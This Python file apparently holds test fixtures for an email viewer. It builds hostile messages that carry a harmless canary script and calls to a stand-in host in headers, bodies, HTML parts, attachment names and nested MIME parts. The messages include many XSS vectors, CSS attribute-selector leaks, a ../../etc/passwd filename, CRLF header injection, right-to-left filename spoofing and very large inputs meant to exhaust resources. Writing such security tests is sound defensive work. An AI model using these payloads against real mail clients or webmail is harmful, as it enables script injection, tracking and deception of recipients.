# ruff: noqa: E501 - a payload is one line
"""Letters that mean harm: script and what calls out, in every place where a letter can hold it.

Whatever runs leaves a mark (`top.canary`, a dialog, a line on the console); whatever is asked for has "canary" in its
address. In each letter is a name, in its subject or else where `seen` says, and in its text.
"""

from base64 import b64encode
from dataclasses import dataclass
from email.header import Header

RUN = "top.canary=parent.canary=window.canary=1;alert('canary');console.error('canary')"
SCRIPT = f'<script>{RUN}</script><img src=x onerror="{RUN}">'
AWAY = "http://canary.test/canary"
HERE = "/canary"
RIGHT_TO_LEFT, ISOLATE = "\u202e", "\u2066"


@dataclass(frozen=True)
class Hostile:
    """A letter with its envelope. `row` and `text` are words that are seen of it, `rich` of its HTML part, if any."""

    name: str
    content: bytes
    row: str
    text: str
    rich: str = ""
    sender: str = "mallory@mallory.test"
    recipients: tuple[str, ...] = ("me@learner.test",)


def _letter(name: str, header: dict[str, str | bytes] | None = None, body: str | bytes = "", **seen) -> Hostile:
    """A letter with these fields beside the usual ones or in their place, and this body."""
    given = {
        "From": "Mallory <mallory@mallory.test>",
        "Subject": f"On {name}",
        "Date": "Mon, 2 Mar 2026 10:00:00 +0000",
    }
    lines = [
        b"%s: %s" % (field.encode(), value.encode() if isinstance(value, str) else value)
        for field, value in (given | (header or {})).items()
    ]
    words = f"Plain words of {name}"
    octets = body if isinstance(body, bytes) else (body or f"{words}\n").encode()
    content = b"\n".join([*lines, b"", octets]).replace(b"\n", b"\r\n")
    return Hostile(name, content, **({"row": f"On {name}", "text": words} | seen))


def _html(name: str, html: str) -> Hostile:
    """A letter of two forms, plain and rich. The rich one ends in words that are seen wherever it does not hide them."""
    body = f"""--b
Content-Type: text/plain; charset=utf-8

Plain words of {name}
--b
Content-Type: text/html; charset=utf-8

<p>Rich words of {name}</p>{html}
--b--
"""
    kind = {"MIME-Version": "1.0", "Content-Type": "multipart/alternative; boundary=b"}
    return _letter(name, kind, body, rich=f"Rich words of {name}")


def _attached(name: str, disposition: str | bytes, kind: str = "application/octet-stream", seen: str = "") -> Hostile:
    """A letter with a file, and what is seen of the file's name."""
    octets = disposition.encode() if isinstance(disposition, str) else disposition
    body = b"--b\n\nPlain words of %s\n--b\nContent-Type: %s\n%s\n\n%s\n--b--\n" % (
        name.encode(), kind.encode(), octets, SCRIPT.encode()
    )  # fmt: skip
    letter = _letter(name, {"Content-Type": "multipart/mixed; boundary=b"}, body)
    return Hostile(name, letter.content, letter.row, seen or letter.text)


def _deep(levels: int) -> bytes:
    """The body of parts in parts, of which the first is named b0."""
    opened = b"".join(b"--b%d\nContent-Type: multipart/mixed; boundary=b%d\n\n" % (n, n + 1) for n in range(levels))
    return opened + b"--b%d\n\n%s\n" % (levels, SCRIPT.encode())


def _encoded(text: str) -> str:
    return Header(text, "utf-8", maxlinelen=998).encode()


def _broken(name: str, kind: str, encoding: str = "8bit", body: bytes = b"", text: str = "") -> Hostile:
    words = f"Plain words of {name}"
    header = {"Content-Type": kind, "Content-Transfer-Encoding": encoding}
    return _letter(name, header, body or words.encode(), text=text or words)


_EVERYWHERE = [
    "From",
    "To",
    "Cc",
    "Reply-To",
    "Date",
    "Message-ID",
    "Return-Path",
    "Received",
    "X-Mailer",
    "List-Unsubscribe",
]
HEADERS = [
    *(_letter(f"script in {field}", {field: SCRIPT}) for field in _EVERYWHERE),
    _letter("script in subject", {"Subject": f"On script in subject {SCRIPT}"}),
    _letter("script in a name", {"From": f'"{SCRIPT}" <clerk@bank.test>'}),
    _letter("script in an address", {"From": f'Mallory <"{SCRIPT}"@mallory.test>'}),
    _letter("script in encoded words", {"Subject": _encoded(f"On script in encoded words {SCRIPT}")}),
    _letter("script in a field's name", {f"X-{SCRIPT}": "x"}),
    _letter("a closed attribute", {"Subject": f"On a closed attribute \"'></div>{SCRIPT}"}),
    _letter("script in the envelope", sender=f"{SCRIPT}@mallory.test", recipients=(SCRIPT, f"<{SCRIPT}>")),
    _letter("controls in the envelope", sender=f"a\r\nb\x1b[2J{RIGHT_TO_LEFT}@x", recipients=("x\x00y",) * 5000),
    _letter("turned writing", {"Subject": f"On turned writing {RIGHT_TO_LEFT}{ISOLATE}gpj.exe"}),
    _letter("turned name", {"From": f"Bank {RIGHT_TO_LEFT}<mallory@mallory.test>"}, row="Bank \\u202e"),
    _letter("Hebrew", {"From": "\u05d0\u05d1\u05d2 <mallory@mallory.test>"}),
    _letter("nothing to see", {"Subject": "On nothing to see \u200b\u2060\ufeff\u00ad"}),
    _letter("marks in heaps", {"Subject": "On marks in heaps " + "a" + "\u0301" * 150}),
    _letter("octets of control", {"Subject": b"On octets of control \x00\x07\x1b[2J\x7f\xff\xfe"}),
    _letter("a bare CR", {"Subject": b"On a bare CR\rBcc: all@learner.test"}),
    _letter("a long subject", {"Subject": "On a long subject " + "x" * 10**6}),
    _letter("quotes in heaps", {"From": '"' * 50_000, "To": "(" * 50_000}, row='""""'),
    _letter("addresses in heaps", {"From": "a@b.test, " * 20_000, "To": "<" * 50_000}, row="a@b.test, a@b.test"),
    _letter("fields in heaps", {f"X-{n}": SCRIPT for n in range(5000)}),
    _letter("two From fields", {"From": "a@bank.test\nFrom: b@mallory.test"}),
    _letter("a date beyond time", {"Date": "Mon, 99 Foo 99999 99:99:99 +9999"}),
    Hostile("no header", b"\r\nPlain words of no header\r\n", "(no From:)", "Plain words of no header"),
    Hostile("nothing at all", b"", "(no Subject:)", ""),
    Hostile("octets of any kind", bytes(range(256)) * 40, "", ""),
]
TEXTS = [
    _letter("script as text", body=f"Plain words of script as text\n{SCRIPT}\n</pre></section></div>{SCRIPT}"),
    _letter("a terminal's orders", body="Plain words of a terminal's orders\n\x1b[2J\x1b]0;x\x07\x9b\x00"),
    _letter("turned text", body=f"Plain words of turned text {RIGHT_TO_LEFT}cod.exe", text="Plain words of turned text \\u202e"),
    _letter("a line without end", body="Plain words of a line without end " + "x" * 10**6),
    _letter("lines in heaps", body="Plain words of lines in heaps" + "\n" * 10**5),
    _letter("a format of text", body="Plain words of a format of text {0.__class__} %s %n ${RUN} {{constructor}}"),
    _broken("UTF-7", "text/plain; charset=utf-7", body=b"Plain words of UTF-7 +ADw-script+AD4-"),
    _broken("UTF-16", "text/plain; charset=utf-16", body=SCRIPT.encode("utf-16") + b"\x00", text="<script>"),
    _broken("an unknown charset", f'text/plain; charset="{SCRIPT.replace(chr(34), "")}"'),
    _broken("a charset of Python's", "text/plain; charset=idna"),
    _broken("halves of characters", "text/plain; charset=utf-16-le", body=b"\x00\xd8" * 20, text="\ufffd"),
    _broken("broken base64", "text/plain", "base64", b64encode(b"Plain words of broken base64, and more")[:-3] + b"*!="),
    _broken("broken hexadecimals", "text/plain", "quoted-printable", b"Plain words of broken hexadecimals =ZZ=\n=4"),
    _broken("an unknown encoding", "text/plain", SCRIPT),
    _broken("a type that is none", SCRIPT),
]  # fmt: skip
RICH = [
    _html(name, html)
    for name, html in {
        "script": SCRIPT,
        "script from elsewhere": f"<script src='{AWAY}'></script><script src='{HERE}'></script><script type=module>import '{AWAY}'</script>",
        "script without end": f"<script>{RUN}//",
        "handlers": "".join(f"<div {on}=\"{RUN}\" style='animation:x 1s'>x</div>" for on in ("onclick", "onmouseover", "onfocus tabindex=0 autofocus", "onanimationstart", "onpointerenter")),
        "body and frames": f"<body onload=\"{RUN}\" onpageshow=\"{RUN}\" background='{AWAY}'><frameset onload=\"{RUN}\"><frame src='{AWAY}'></frameset>",
        "a picture that fails": f"<img src='{AWAY}' onerror=\"{RUN}\"><image src='{AWAY}' onerror=\"{RUN}\">",
        "pictures to choose from": f"<img srcset='{AWAY}1 1x, {AWAY}2 2x'><picture><source srcset='{AWAY}3'><img src='{HERE}'></picture>",
        "a lazy picture": f"<img loading=eager src='//canary.test/canary' lowsrc='{AWAY}' dynsrc='{AWAY}'>",
        "drawings": f"<svg onload=\"{RUN}\"><image href='{AWAY}' xlink:href='{AWAY}'/><use href='{AWAY}#a'/><script>{RUN}</script><animate onbegin=\"{RUN}\" attributeName=x dur=1s /></svg>",
        "a drawing that moves a link": f"<svg><a><animate attributeName=href values='javascript:{RUN}' /><text y=20>click</text></a></svg>",
        "foreign objects": f"<svg><foreignObject><iframe src='{AWAY}'></iframe><body onload=\"{RUN}\"></foreignObject></svg>",
        "formulas": f"<math href='javascript:{RUN}'><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
        "a frame": f"<iframe src='{AWAY}'></iframe><iframe src='{HERE}'></iframe>",
        "a frame of its own": f"<iframe srcdoc=\"&lt;script&gt;{RUN}&lt;/script&gt;\"></iframe><iframe src=\"javascript:{RUN}\"></iframe>",
        "objects": f"<object data='{AWAY}'></object><embed src='{AWAY}'><applet code='{AWAY}'></applet><object data='data:text/html,{SCRIPT}'></object>",
        "a form": f"<form action='{AWAY}' target=_top id=f><input name=p autofocus><button>Send</button></form><button form=f formaction='javascript:{RUN}'>x</button>",
        "a picture to press": f"<form action='{AWAY}'><input type=image src='{AWAY}'></form><isindex action='{AWAY}'>",
        "film and sound": f"<video poster='{AWAY}' src='{AWAY}' autoplay onerror=\"{RUN}\"><source src='{AWAY}'><track src='{AWAY}' default></video><audio src='{AWAY}' autoplay onerror=\"{RUN}\"></audio>",
        "a sheet from elsewhere": f"<link rel=stylesheet href='{AWAY}'><link rel=stylesheet href='{HERE}'>",
        "what is fetched ahead": "".join(f"<link rel={rel} as=image href='{AWAY}'>" for rel in ("prefetch", "preload", "dns-prefetch", "preconnect", "prerender", "modulepreload", "icon", "manifest")),
        "a refresh": f"<meta http-equiv=refresh content='0;url={AWAY}'>",
        "a refresh that is script": f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\"><meta http-equiv=refresh content='0;url={HERE}'>",
        "a base": "<base href='http://canary.test/'><img src=canary><base target=_top><a href=canary>click</a>",
        "a policy of its own": f"<meta http-equiv=Content-Security-Policy content='default-src *'><img src='{AWAY}'>",
        "a cookie": "<meta http-equiv=set-cookie content='canary=1'>",
        "speculation": f"<script type=speculationrules>{{\"prefetch\":[{{\"source\":\"list\",\"urls\":[\"{AWAY}\"]}}]}}</script>",
        "links that are script": f"<a href=\"javascript:{RUN}\">click</a><a href=\"java\tscript:{RUN}\">click</a><a href='&#106;avascript:{RUN}'>click</a>",
        "links that hold a page": f"<a href='data:text/html,{SCRIPT}' target=_top>click</a><a href='blob:canary' download>click</a>",
        "links that leave": f"<a href='{AWAY}' target=_top ping='{AWAY}'>click</a><a href='{HERE}' target=_parent>click</a><a href='{AWAY}' target=_blank>click</a><a href='{AWAY}'>click</a>",
        "a link over all": f"<a href='{AWAY}' style='position:fixed;inset:0;z-index:9;display:block'>click</a>",
        "a map": f"<img usemap=#m src='{AWAY}' width=500 height=200><map name=m><area shape=default href='{AWAY}' target=_top></map>",
        "an import of style": f"<style>@import '{AWAY}'; @import url({HERE}); @namespace url({AWAY});</style>",
        "a font": f"<style>@font-face {{ font-family: x; src: url({AWAY}) }} * {{ font-family: x }}</style>",
        "pictures in style": f"<style>* {{ background: url({AWAY}); list-style-image: url({AWAY}); cursor: url({AWAY}), auto; border-image: url({AWAY}); mask: url({AWAY}) }} p::before {{ content: url({AWAY}) }}</style>",
        "sets of pictures": f"<style>* {{ background: image-set('{AWAY}' 1x); background: -webkit-image-set(url({AWAY}) 1x); background: cross-fade(url({AWAY}), red) }}</style>",
        "style of an element": f"<p style='background:url({AWAY})'>x</p><p style='background:u\\72l({AWAY})'>x</p><p style='behavior:url({AWAY});-moz-binding:url({AWAY})'>x</p><p style=\"background:url&#40;{AWAY})\">x</p>",
        "style that runs": f"<p style='width:expression({RUN})'>x</p><style>@property --x {{ syntax: '*'; inherits: true }} * {{ --x: {RUN} }}</style>",
        "style that asks by letters": "<style>" + "".join(f"input[value^='{c}'] {{ background: url({AWAY}{c}) }}" for c in "abcdef") + "</style><input value=abc>",
        "style that hides": "<style>* { display: none }</style><div style='position:fixed;inset:0;background:#fff;z-index:99'>Log in here</div>",
        "a comment without end": f"<!--><img src='{AWAY}' onerror=\"{RUN}\">--><!--",
        "a comment for one": f"<!--[if IE]><script>{RUN}</script><![endif]--><!--[if !IE]>--><img src='{AWAY}'><!--<![endif]-->",
        "noscript": f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
        "a template": f"<template><img src='{AWAY}' onerror=\"{RUN}\"></template><div><template shadowrootmode=open><img src='{AWAY}'></template></div>",
        "a textarea": f"<textarea><img title='</textarea><img src={AWAY} onerror={RUN}>'></textarea><title><img src='</title><img src={AWAY}>'></title>",
        "plain text": f"<xmp><img title='</xmp><img src={AWAY} onerror={RUN}>'></xmp><plaintext><script>{RUN}</script>",
        "half a tag": f"<img src='{AWAY}' onerror=\"{RUN}\"",
        "odd tags": f"<scr\x00ipt>{RUN}</script><img/src='{AWAY}'/onerror=\"{RUN}\"><<script>{RUN}//<</script><script/x>{RUN}</script ><svg/onload={RUN}>",
        "quotes that lie": f"<p title='a\"><img src={AWAY} onerror={RUN}>' style=\"x'><img src={AWAY}>\">x</p><p title=`><img src={AWAY}>`>",
        "opens and moves": f"<details open ontoggle=\"{RUN}\">x</details><marquee onstart=\"{RUN}\">x</marquee><dialog open oncancel=\"{RUN}\">x</dialog>",
        "an element to write in": f"<div contenteditable autofocus onfocus=\"{RUN}\" accesskey=x>x</div><select autofocus onfocus=\"{RUN}\"></select>",
        "instructions of XML": f"<?xml-stylesheet href='{AWAY}'?><!DOCTYPE x [<!ENTITY y SYSTEM '{AWAY}'>]>&y;<html xmlns='x'>",
        "a page around it": f"</body></html><script>{RUN}</script><iframe src='{AWAY}'>",
        "elements without end": "<div>" * 15_000,
        "tables in tables": "<table><tr><td>" * 3_000,
        "ampersands": "&" * 30_000 + "&#x110000;&#0;&#xd800;&#x202e;",
        "the word turned": f"<p>{RIGHT_TO_LEFT}&#x202e;&rlo;moc.knab</p><bdo dir=rtl>x</bdo>",
    }.items()
]  # fmt: skip
FILES = [
    _attached("a way up", 'Content-Disposition: attachment; filename="../../etc/passwd"', seen="../../etc/passwd"),
    _attached("a turned name", f'Content-Disposition: attachment; filename="photo{RIGHT_TO_LEFT}gpj.exe"', seen="photo\\u202egpj.exe"),
    _attached("a name in lines", "Content-Disposition: attachment; filename*=utf-8''a%0d%0aX-Evil%3a%201", seen="a\\r\\nX-Evil: 1"),
    _attached("a name with nothing", b'Content-Disposition: attachment; filename="a\x00b.exe"', seen="a\\x00b.exe"),
    _attached("a name that is script", f"Content-Disposition: attachment; filename*=utf-8''{'%3Cscript%3Ealert(1)%3C/script%3E'}", seen="<script>alert(1)</script>"),
    _attached("a name without end", f'Content-Disposition: attachment; filename="{"n" * 10**5}.exe"'),
    _attached("a name in pieces", "Content-Disposition: attachment; filename*0*=x'y'%ff; filename*9999999999=b; filename*=%%%"),
    _attached("a page attached", 'Content-Disposition: attachment; filename="a.html"', "text/html", "a.html, text/html"),
    _attached("a program", 'Content-Disposition: inline; filename="a.js"', "text/javascript", "a.js, text/javascript"),
    _attached("a drawing", 'Content-Disposition: inline; filename="a.svg"', "image/svg+xml", "a.svg, image/svg+xml"),
    _attached("quotes in a name", "Content-Disposition: attachment; filename=" + '"";' * 5000, "text/plain; name=" + '"' * 3000),
]  # fmt: skip
_MIXED = "multipart/mixed; boundary=b"
PARTS = [
    _letter("parts 900 deep", {"Content-Type": "multipart/mixed; boundary=b0"}, _deep(900), text="Not all of its parts are listed"),
    _letter("one boundary 5000 deep", {"Content-Type": _MIXED}, b"--b\nContent-Type: multipart/mixed; boundary=b\n\n" * 5000, text="no plain text"),
    _letter("5000 parts", {"Content-Type": _MIXED}, b"--b\n\nPlain words of 5000 parts\n" * 5000),
    _letter("no end", {"Content-Type": _MIXED}, "--b\n\nPlain words of no end"),
    _letter("no boundary", {"Content-Type": "multipart/mixed"}, text="no plain text"),
    _letter("an empty boundary", {"Content-Type": 'multipart/mixed; boundary=""'}, text="no plain text"),
    _letter("a boundary of signs", {"Content-Type": 'multipart/mixed; boundary="(.*)+[^]\\\\"'}, text="no plain text"),
    _letter("a boundary of script", {"Content-Type": f"multipart/mixed; boundary=\"{SCRIPT.replace(chr(34), '')}\""}, text="no plain text"),
    _letter("no part", {"Content-Type": _MIXED}, "--b--\n", text="no plain text"),
    _letter("letters in a letter", {"Content-Type": "message/rfc822"}, b"Content-Type: message/rfc822\n\n" * 500, text="message/rfc822"),
    _letter("a letter elsewhere", {"Content-Type": f'message/external-body; access-type=URL; URL="{AWAY}"'}, text="message/external-body"),
    _letter("nothing but HTML", {"Content-Type": "text/html"}, f"<p>Rich words of nothing but HTML</p>{SCRIPT}", text="no plain text", rich="Rich words of nothing but HTML"),
    _letter("HTML in UTF-7", {"Content-Type": "text/html; charset=utf-7"}, "<p>Rich words of UTF-7</p>+ADw-script+AD4-" + RUN, text="no plain text", rich="Rich words of UTF-7"),
    _letter("HTML in UTF-16", {"Content-Type": "text/html; charset=utf-16-be"}, ("<p>Rich words of UTF-16</p>" + SCRIPT).encode("utf-16-be"), text="no plain text", rich="Rich words of UTF-16"),
    _letter("much HTML", {"Content-Type": "text/html"}, "<p>Rich words of much</p>" + SCRIPT * 30_000, text="no plain text", rich="Rich words of much"),
]  # fmt: skip
LETTERS = [*HEADERS, *TEXTS, *RICH, *FILES, *PARTS]
